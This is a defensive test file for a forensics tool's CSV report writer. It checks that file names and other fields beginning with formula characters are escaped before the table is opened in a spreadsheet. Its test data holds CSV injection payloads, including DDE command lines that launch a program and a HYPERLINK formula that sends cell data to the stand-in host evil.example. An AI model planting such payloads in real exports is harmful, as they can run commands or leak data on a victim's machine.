"""A file name that starts with ``=`` must not run when the table is opened in a spreadsheet."""

from __future__ import annotations

import base64
import csv
import io
import re
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from ftforensics.domain.case import CaseView
from ftforensics.domain.link import Finding
from ftforensics.report.csv_table import COLUMNS, render_csv

sys.path.append(str(Path(__file__).parents[1] / "report"))
from sample_case import sample_view

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '"=1+1',
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    'x";=1+1;"',
    "x;=1+1",
    "x; @SUM(1)",
    "\ufeff=1+1",
    "x\r\n=1+1",
]
# What a spreadsheet starts a formula with; the wide forms too.
TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")
NUMBERS = {"survival", "z", "runner_up_z", "presence", "e_value", "e_case"}


def with_text(view: CaseView, text: str) -> CaseView:
    finding: Finding = view.findings[0]
    assert finding.source is not None
    evidence = replace(finding.evidence, path=text, path_b64=base64.b64encode(text.encode()).decode(), media_type=text)
    source = replace(finding.source, issuer=text, tag_id=text, logged_at=text)
    changed = replace(
        finding, exhibit_id=text, evidence=evidence, source=source, reasons=(text, text), limitations=("fine", text)
    )
    return replace(view, findings=(changed,), head=replace(view.head, head_hash=text))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    content = render_csv(with_text(sample_view(), text)).decode()
    header, *rows = csv.reader(io.StringIO(content, newline=""))
    assert tuple(header) == COLUMNS
    assert len(rows) == 1
    for name, cell in zip(COLUMNS, rows[0], strict=True):
        assert name in NUMBERS or not cell.lstrip().startswith(TRIGGERS), (name, cell)
        assert not re.search(r"[\r\n\t]", cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula_where_semicolons_part_cells(text: str) -> None:
    """Where the list separator is a semicolon, a spreadsheet cuts the same line at other places."""
    line = render_csv(with_text(sample_view(), text)).decode().split("\r\n")[1]
    for cell in line.split(";")[1:]:
        assert not cell.strip().startswith(TRIGGERS), cell


def test_the_exact_name_stays_at_hand() -> None:
    (row,) = csv.DictReader(io.StringIO(render_csv(with_text(sample_view(), FORMULAS[0])).decode(), newline=""))
    assert row["path"] == "'" + FORMULAS[0]
    assert base64.b64decode(row["path_b64"]).decode() == FORMULAS[0]


def test_a_negative_number_stays_a_number() -> None:
    view = sample_view()
    finding = view.findings[0]
    assert finding.tag is not None
    tag = replace(finding.tag, z=-1.25)  # type: ignore[call-arg]
    (row,) = csv.DictReader(io.StringIO(render_csv(replace(view, findings=(replace(finding, tag=tag),))).decode()))
    assert row["z"] == "-1.25"
